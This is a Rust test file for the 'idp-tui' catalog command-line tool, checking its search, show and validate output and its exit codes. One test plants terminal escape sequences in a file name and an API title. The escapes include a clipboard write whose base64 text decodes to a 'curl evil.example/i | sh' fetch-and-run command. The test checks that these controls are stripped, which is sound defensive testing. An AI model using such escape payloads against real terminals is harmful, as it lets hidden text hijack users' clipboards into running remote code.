//! The command line, run as a user would: the built binary, its output and exit codes.

#![allow(clippy::unwrap_used)] // test code: an unwrap that fails is a failed test, with its reason

use std::process::{Command, Output};

fn idp(args: &[&str]) -> Output {
    let home = tempfile::tempdir().unwrap();
    Command::new(env!("CARGO_BIN_EXE_idp-tui"))
        .args(args)
        // No real config file is ever read by tests.
        .env("HOME", home.path())
        .env("XDG_CONFIG_HOME", home.path().join("config"))
        .env("XDG_STATE_HOME", home.path().join("state"))
        .env("XDG_CACHE_HOME", home.path().join("cache"))
        .output()
        .expect("binary runs")
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).to_string()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).to_string()
}

fn json(o: &Output) -> serde_json::Value {
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", stdout(o)))
}

#[test]
fn search_json_ranks_the_typo_match_first() {
    let o = idp(&["search", "ledgr", "--json"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v = json(&o);
    let first = &v[0];
    assert_eq!(first["ref"], "component:default/ledger-writer");
    assert_eq!(first["owner"], "group:default/ledger-team");
    for key in ["kind", "name", "title", "score"] {
        assert!(first.get(key).is_some(), "missing {key}");
    }
}

#[test]
fn search_filters_by_kind_and_limit() {
    let o = idp(&["search", "--kind", "API", "--json", "--limit", "3"]);
    let v = json(&o);
    let items = v.as_array().unwrap();
    assert_eq!(items.len(), 3);
    assert!(items.iter().all(|i| i["kind"] == "API"));
}

#[test]
fn empty_query_lists_everything() {
    let v = json(&idp(&["search", "--json", "--limit", "1000"]));
    assert!(v.as_array().unwrap().len() >= 60);
}

#[test]
fn catalog_flag_works_after_the_subcommand_too() {
    let before = json(&idp(&[
        "--catalog",
        "tests/data/ambiguous",
        "search",
        "--json",
    ]));
    let after = json(&idp(&[
        "search",
        "--json",
        "--catalog",
        "tests/data/ambiguous",
    ]));
    assert_eq!(before, after);
    assert_eq!(before.as_array().unwrap().len(), 3);
}

#[test]
fn show_prints_relations_and_json() {
    let o = idp(&["show", "ledger-writer"]);
    assert!(o.status.success());
    let text = stdout(&o);
    assert!(text.contains("component:default/ledger-writer"), "{text}");
    assert!(
        text.contains("ownedBy       group:default/ledger-team"),
        "{text}"
    );
    let v = json(&idp(&["show", "component:ledger-writer", "--json"]));
    assert_eq!(v["metadata"]["name"], "ledger-writer");
    let rels = v["relations"].as_array().unwrap();
    assert!(rels.iter().any(|r| r["type"] == "ownedBy"
        && r["targetRef"] == "group:default/ledger-team"
        && r["resolved"] == true));
}

#[test]
fn show_ambiguous_name_lists_candidates() {
    let o = idp(&["--catalog", "tests/data/ambiguous", "show", "orders"]);
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert!(err.contains("ambiguous"), "{err}");
    assert!(
        err.contains("component:default/orders") && err.contains("api:default/orders"),
        "{err}"
    );
    let o = idp(&["--catalog", "tests/data/ambiguous", "show", "api:orders"]);
    assert!(o.status.success());
}

#[test]
fn show_unknown_entity_fails_clearly() {
    let o = idp(&["show", "no-such-thing"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("no entity matches \"no-such-thing\""));
}

#[test]
fn validate_lists_problems_and_fails_on_errors() {
    let o = idp(&["validate", "tests/data/broken"]);
    assert_eq!(o.status.code(), Some(1));
    let out = stdout(&o);
    assert!(
        out.contains("tests/data/broken/mixed.yaml:16: error: YAML does not parse"),
        "{out}"
    );
    assert!(
        out.contains("error: component:default/missing-fields: spec.lifecycle is required"),
        "{out}"
    );
    let v = json(&idp(&["validate", "tests/data/broken", "--json"]));
    assert!(v
        .as_array()
        .unwrap()
        .iter()
        .any(|p| p["line"] == 19 && p["severity"] == "error"));
}

#[test]
fn validate_passes_with_only_warnings() {
    let o = idp(&["validate", "examples/demo"]);
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
    assert!(stdout(&o).contains("warning"));
}

#[test]
fn load_problems_never_make_search_fail() {
    let o = idp(&["--catalog", "tests/data/broken", "search", "good", "--json"]);
    assert!(o.status.success());
    assert!(
        stderr(&o).contains("error(s)"),
        "problems are summarised on stderr"
    );
    assert_eq!(json(&o).as_array().unwrap().len(), 2);
}

#[test]
fn unknown_filter_is_hinted() {
    let o = idp(&["search", "colour:blue"]);
    assert!(
        stderr(&o).contains("unknown filter colour:"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn bad_config_file_names_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("config.yaml");
    std::fs::write(&cfg, "theme: dark\nsources:\n  - type: ftp\n").unwrap();
    let o = idp(&["--config", cfg.to_str().unwrap(), "search", "x"]);
    assert!(!o.status.success());
    let err = stderr(&o);
    assert!(err.contains("config.yaml:3"), "{err}");
}

/// A control character or escape in text output: what would repaint, retitle or write to the
/// clipboard of the terminal it reaches.
fn has_controls(text: &str) -> bool {
    text.chars().any(|c| {
        (c.is_control() && c != '\n' && c != '\t') || ('\u{e0000}'..='\u{e007f}').contains(&c)
    })
}

#[test]
fn hostile_file_names_and_texts_never_reach_the_terminal_raw_and_json_stays_exact() {
    let dir = tempfile::tempdir().unwrap();
    // A file name that retitles and clears the terminal, and sets the clipboard.
    let name =
        "svc\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUvaSB8IHNo\u{7}.yaml";
    let path = dir.path().join(name);
    std::fs::write(
        &path,
        "apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: Not Valid!\nspec:\n  type: service\n---\napiVersion: backstage.io/v1alpha1\nkind: API\nmetadata:\n  name: evil-api\nspec:\n  type: openapi\n  lifecycle: production\n  owner: team-a\n  definition:\n    $text: ./def.txt\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("def.txt"),
        "openapi: 3.0.0\ninfo:\n  title: \u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUvaSB8IHNo\u{7}x\u{e0041}\n",
    )
    .unwrap();
    let catalog = dir.path().to_str().unwrap();
    for args in [
        vec!["validate", "--catalog", catalog],
        vec!["show", "evil-api", "--catalog", catalog],
        vec!["search", "", "--catalog", catalog],
    ] {
        let o = idp(&args);
        for (stream, text) in [("stdout", stdout(&o)), ("stderr", stderr(&o))] {
            assert!(!has_controls(&text), "{args:?} {stream}: {text:?}");
        }
    }
    // `validate` still names the file (its escape sequences removed), and its JSON keeps the
    // exact name.
    let o = idp(&["validate", "--catalog", catalog]);
    // The line of the bad `name:` field.
    assert!(stdout(&o).contains("/svc.yaml:4: error"), "{}", stdout(&o));
    let o = idp(&["validate", "--catalog", catalog, "--json"]);
    assert!(
        stdout(&o).contains("\\u001b]0;pwned\\u0007"),
        "{}",
        stdout(&o)
    );
    let v = json(&o);
    let paths: Vec<&str> = v
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|p| p["path"].as_str())
        .collect();
    assert!(paths.iter().any(|p| p.ends_with(name)), "{paths:?}");
}

/// A catalog big enough that its listing does not fit in a pipe's buffer.
fn big_catalog() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let mut text = String::new();
    for i in 0..3000 {
        text.push_str(&format!(
            "---\napiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: service-{i}\n  description: a service with a description long enough to fill a pipe\nspec:\n  type: service\n  lifecycle: production\n  owner: team-a\n"
        ));
    }
    std::fs::write(dir.path().join("catalog.yaml"), text).unwrap();
    dir
}

#[test]
fn a_reader_that_goes_away_ends_the_command_quietly() {
    use std::io::BufRead;
    let dir = big_catalog();
    let home = tempfile::tempdir().unwrap();
    for args in [
        vec!["search", "", "--limit", "100000"],
        vec!["search", "", "--limit", "100000", "--json"],
        vec!["validate"],
    ] {
        let mut child = Command::new(env!("CARGO_BIN_EXE_idp-tui"))
            .args(&args)
            .args(["--catalog", dir.path().to_str().unwrap()])
            .env("HOME", home.path())
            .env("XDG_CONFIG_HOME", home.path().join("config"))
            .env("XDG_STATE_HOME", home.path().join("state"))
            .env("XDG_CACHE_HOME", home.path().join("cache"))
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut first = String::new();
        std::io::BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut first)
            .unwrap();
        // `| head -1`: the reader takes a line and closes the pipe.
        let out = child.wait_with_output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!err.contains("panicked"), "{args:?}: {err}");
        assert!(!err.contains("Broken pipe"), "{args:?}: {err}");
        if args[0] == "search" {
            assert!(out.status.success(), "{args:?}: {:?} {err}", out.status);
        }
    }
}

#[test]
fn user_errors_are_one_line_with_a_named_exit_code() {
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("nope.yaml");
    let bad = dir.path().join("bad.yaml");
    std::fs::write(&bad, "theme: [unclosed\n").unwrap();
    for args in [
        vec!["--config", missing.to_str().unwrap(), "search", "x"],
        vec!["--config", bad.to_str().unwrap(), "search", "x"],
        vec!["fetch", "--offline"],
    ] {
        let o = idp(&args);
        let err = stderr(&o);
        assert_eq!(o.status.code(), Some(2), "{args:?}: {err}");
        assert!(err.starts_with("idp-tui: error: "), "{args:?}: {err}");
        assert_eq!(err.lines().count(), 1, "{args:?}: one line: {err}");
    }
}

#[test]
fn a_missing_catalog_path_is_a_failed_source_and_queries_exit_non_zero() {
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("no-such-catalog");
    let missing = missing.to_str().unwrap();
    for args in [
        vec!["--catalog", missing, "search", "x", "--json"],
        vec!["--catalog", missing, "owner", "ledger-team"],
        vec!["--catalog", missing, "show", "ledger-writer"],
    ] {
        let o = idp(&args);
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", stderr(&o));
        let err = stderr(&o);
        assert!(err.contains("does not exist"), "{args:?}: {err}");
        assert!(err.contains("no source could be loaded"), "{args:?}: {err}");
        assert!(o.stdout.is_empty(), "{args:?}: {}", stdout(&o));
    }
    // Beside a catalog that loads, the missing one is reported and the query answers.
    let o = idp(&[
        "--catalog",
        missing,
        "--catalog",
        "embedded:all.yaml",
        "search",
        "ledger",
        "--json",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stderr(&o).contains("does not exist"), "{}", stderr(&o));
}

#[test]
fn without_a_terminal_the_portal_says_so_in_one_line_and_names_the_subcommands() {
    // Run as `ssh host idp-tui` without -t runs it: stdin and stdout are not terminals.
    let o = idp(&[]);
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert_eq!(err.lines().count(), 1, "one line: {err}");
    assert!(
        err.starts_with("idp-tui: error: the portal needs a terminal"),
        "{err}"
    );
    assert!(err.contains("ssh -t"), "{err}");
    for sub in ["search", "show", "owner", "deps", "validate"] {
        assert!(err.contains(sub), "names {sub}: {err}");
    }
    assert!(
        !err.contains("Location:") && !err.contains("Backtrace"),
        "{err}"
    );
    assert!(o.stdout.is_empty(), "nothing drawn: {:?}", stdout(&o));
}

#[test]
fn completions_for_every_shell_and_a_man_page_come_from_the_command_line() {
    for (shell, expect) in [
        ("bash", "complete -F"),
        ("zsh", "#compdef idp-tui"),
        ("fish", "complete -c idp-tui"),
        ("powershell", "Register-ArgumentCompleter"),
    ] {
        let o = idp(&["completions", shell]);
        assert!(o.status.success(), "{shell}: {}", stderr(&o));
        let script = stdout(&o);
        assert!(script.contains(expect), "{shell}: {script}");
        assert!(
            script.contains("search") && script.contains("owner"),
            "{shell}"
        );
    }
    let o = idp(&["completions", "tcsh"]);
    assert_eq!(o.status.code(), Some(2));
    let o = idp(&["man"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let page = stdout(&o);
    assert!(
        page.starts_with(".ie") || page.contains(".TH idp-tui 1"),
        "{page}"
    );
    assert!(page.contains("search"), "{page}");
}

#[test]
fn output_for_scripts_limit_zero_truncation_on_stderr_and_quiet_warnings() {
    let every = json(&idp(&["search", "--json", "--limit", "100000"]));
    let total = every.as_array().unwrap().len();
    assert!(total > 50, "the demo catalog: {total}");
    let all = json(&idp(&["search", "--json", "--limit", "0"]));
    assert_eq!(all, every, "--limit 0 lists every entity");
    let o = idp(&["search", "--json", "--limit", "3"]);
    assert_eq!(json(&o).as_array().unwrap().len(), 3);
    assert!(
        stderr(&o).contains(&format!("3 of {total} matches; --limit 0 for all")),
        "a script is told it was cut: {}",
        stderr(&o)
    );
    // The demo has one warning: not said unless asked.
    let o = idp(&["search", "ledger", "--json"]);
    assert!(!stderr(&o).contains("warning"), "{}", stderr(&o));
    let o = idp(&["-v", "search", "ledger", "--json"]);
    assert!(stderr(&o).contains("1 warning(s)"), "{}", stderr(&o));
}

#[test]
fn a_partial_name_in_owner_or_deps_lists_the_candidates() {
    for command in ["owner", "deps"] {
        let o = idp(&[command, "ledger-w"]);
        assert_eq!(o.status.code(), Some(2), "{command}");
        let err = stderr(&o);
        assert!(
            err.contains("entities whose name holds \"ledger-w\""),
            "{command}: {err}"
        );
        assert!(
            err.contains("  component:default/ledger-writer"),
            "{command}: {err}"
        );
    }
}
